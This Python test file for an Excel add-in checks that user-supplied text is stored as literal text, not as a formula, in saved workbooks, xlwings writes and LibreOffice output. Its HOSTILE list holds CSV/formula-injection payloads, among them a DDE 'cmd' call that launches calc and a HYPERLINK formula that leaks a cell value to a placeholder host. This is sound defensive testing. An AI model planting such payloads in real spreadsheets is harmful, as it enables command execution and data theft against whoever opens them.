"""Text from users is written as text: never a formula, an error value, or an unreadable file.

openpyxl makes a formula of any text starting with "=", and an error value of "#N/A";
Excel reads "+", "-" and "@" as the start of a formula when a cell is retyped. Text the
model writes may have come from a user (the snapshot's copy of each input, a problem
message quoting a value, a scenario or council name), so the writer takes only a
``formula.Formula`` as a formula and gives text that starts like one Excel's quote prefix.
Checked in the saved XML (no ``<f>`` holds user text) and in LibreOffice (shown literally).
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from excel_addin.files.openpyxl_apply import TEXT_LIMIT, apply_plan, write_value
from excel_addin.files.operations import run_workbook
from excel_addin.workbook import layout
from excel_addin.workbook.errors import LocatedProblem
from excel_addin.workbook.formula import Formula
from excel_addin.workbook.plan import block, failure_items, snapshot_items
from tests.support.office import private_profile, soffice
from tests.support.workbook import make_workbook

HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&Inputs!B14,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "#N/A",
    "#DIV/0!",
    "\t=1+1",
    "==",
    "=",
]


def sheet_xml(path: Path, sheet: str) -> str:
    """The XML of one worksheet of a saved file."""
    wb = openpyxl.load_workbook(path)
    index = wb.sheetnames.index(sheet) + 1
    with zipfile.ZipFile(path) as archive:
        return archive.read(f"xl/worksheets/sheet{index}.xml").decode("utf-8")


def formulas_in(xml: str) -> list[str]:
    return re.findall(r"<f(?:\s[^>]*)?>([^<]*)</f>", xml)


def test_write_value_keeps_text_as_text_and_formulas_as_formulas(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    for row, text in enumerate(HOSTILE, start=1):
        write_value(ws.cell(row, 1), text)
    write_value(ws.cell(1, 2), Formula("=1+1"))
    write_value(ws.cell(2, 2), "x" * (TEXT_LIMIT + 10))
    write_value(ws.cell(3, 2), "bell\x07 and null\x00 removed")
    path = tmp_path / "t.xlsx"
    wb.save(path)
    xml = sheet_xml(path, ws.title)
    assert formulas_in(xml) == ["1+1"]  # only the Formula
    back = openpyxl.load_workbook(path).active
    for row, text in enumerate(HOSTILE, start=1):
        cell = back.cell(row, 1)
        assert (cell.value, cell.data_type) == (text, "s")
        assert cell.quotePrefix is text.startswith(("=", "+", "-", "@", "\t")), text
    assert back["B1"].data_type == "f"
    assert len(back["B2"].value) == TEXT_LIMIT and back["B2"].value.endswith("…")
    assert back["B3"].value == "bell and null removed"


def test_the_snapshot_of_text_inputs_and_problem_messages_stay_text(tmp_path):
    """Every input's snapshot slot and Problem cell, fed hostile text, holds it as text."""
    path = make_workbook(tmp_path)
    wb = openpyxl.load_workbook(path)
    raw = {}
    for index, cell in enumerate(layout.all_inputs()):
        text = HOSTILE[index % len(HOSTILE)]
        raw[cell.name] = [[text] * cell.columns for _ in range(cell.rows)] if cell.is_table else text
    problems = [
        LocatedProblem(cell.name, cell.label, cell.address, HOSTILE[i % len(HOSTILE)])
        for i, cell in enumerate(layout.all_inputs())
    ]
    apply_plan(wb, [*snapshot_items(raw, "abc"), *failure_items(problems)])
    wb.save(path)
    markers = ("1+1", "cmd|", "HYPERLINK", "SUM(1,1)", "N/A", "DIV/0")
    for sheet in {layout.SNAPSHOT, *(cell.sheet for cell in layout.all_inputs())}:
        leaked = [f for f in formulas_in(sheet_xml(path, sheet)) if any(m in f for m in markers)]
        assert not leaked, (sheet, leaked)
    back = openpyxl.load_workbook(path)
    for slot in layout.snapshot_slots():
        name, ws = slot.cell.name, back[layout.SNAPSHOT]
        for i in range(slot.cell.rows):
            for j in range(slot.cell.columns):
                expected = raw[name][i][j] if slot.cell.is_table else raw[name]
                cell = ws.cell(slot.row + i, layout.SNAPSHOT_VALUE_COLUMN + j)
                assert (cell.value, cell.data_type) == (expected, "s"), (name, i, j)
        assert ws.cell(slot.row, 2).data_type == "f"  # the model's own change count stays a formula
    for problem in problems:
        cell = layout.input_cell(problem.name)
        written = back[cell.sheet][cell.problem_cell]
        assert (written.value, written.data_type) == (problem.message, "s")


@pytest.mark.slow
def test_a_run_copies_text_typed_inputs_into_the_snapshot_as_text(tmp_path):
    """A number typed as text starting with + or - is valid; its snapshot copy must not become a formula."""
    path = make_workbook(tmp_path, fixed_cost="+950000", variable_cost="+300", deficit_support="-0")
    run_workbook(path)
    snapshot = {slot.cell.name: slot for slot in layout.snapshot_slots()}
    back = openpyxl.load_workbook(path)[layout.SNAPSHOT]
    for name, text in (("fixed_cost", "+950000"), ("variable_cost", "+300"), ("deficit_support", "-0")):
        cell = back.cell(snapshot[name].row, layout.SNAPSHOT_VALUE_COLUMN)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert "950000" not in "".join(formulas_in(sheet_xml(path, layout.SNAPSHOT)))


def test_a_block_of_user_text_is_text_in_the_plan_too():
    """``block`` keeps a ``Formula`` a Formula and plain text plain, so every writer can tell them apart."""
    item = block(layout.RESULTS, 40, 1, [["=1+1", Formula("=1+1")]])
    assert [type(v) for v in item.values[0]] == [str, Formula]
    assert isinstance(layout.status_formula(), Formula)


@pytest.mark.libreoffice
def test_libreoffice_shows_user_text_literally(tmp_path):
    """LibreOffice, recalculating on load, shows each text as typed: nothing is computed."""
    wb = openpyxl.Workbook()
    ws = wb.active
    for row, text in enumerate(HOSTILE, start=1):
        write_value(ws.cell(row, 1), text)
    write_value(ws.cell(1, 2), Formula("=1+1"))
    path = tmp_path / "texts.xlsx"
    wb.save(path)
    profile = private_profile(tmp_path / "profile")
    out = tmp_path / "out"
    (converted,) = soffice(profile, "csv:Text - txt - csv (StarCalc):44,34,76", out, [path])
    rows = list(csv.reader(converted.read_text(encoding="utf-8").splitlines()))
    assert [row[0] for row in rows] == HOSTILE
    assert rows[0][1] == "2"  # the one formula was calculated, so LibreOffice did recalculate


class _Range:
    """What the xlwings writer sets on a range: values, formulas, format, font, colour."""

    def __init__(self):
        self.value = self.formula = self.number_format = self.color = None
        self.font = type("Font", (), {})()


def test_the_xlwings_writer_marks_user_text_as_text_too():
    """Excel reads a value set through xlwings as if typed: text starting like a formula needs its '."""
    from excel_addin.excel import xlwings_apply

    ranges: list[_Range] = []

    class Sheet:
        def range(self, *corners):
            ranges.append(_Range())
            return ranges[-1]

    book = type("Book", (), {"sheets": {layout.SNAPSHOT: Sheet()}})()
    xlwings_apply.APPLY[type(block("", 1, 1, 0))](book, block(layout.SNAPSHOT, 5, 3, [HOSTILE[:6]]))
    assert ranges[-1].formula is None
    assert ranges[-1].value == [["'" + text if text[0] in "=+-@" else text for text in HOSTILE[:6]]]
    xlwings_apply.APPLY[type(block("", 1, 1, 0))](
        book, block(layout.SNAPSHOT, 5, 2, [["=1", Formula("=1+1")]])
    )
    assert ranges[-1].formula == [["'=1", "=1+1"]]  # the model's formula stays one; the text does not
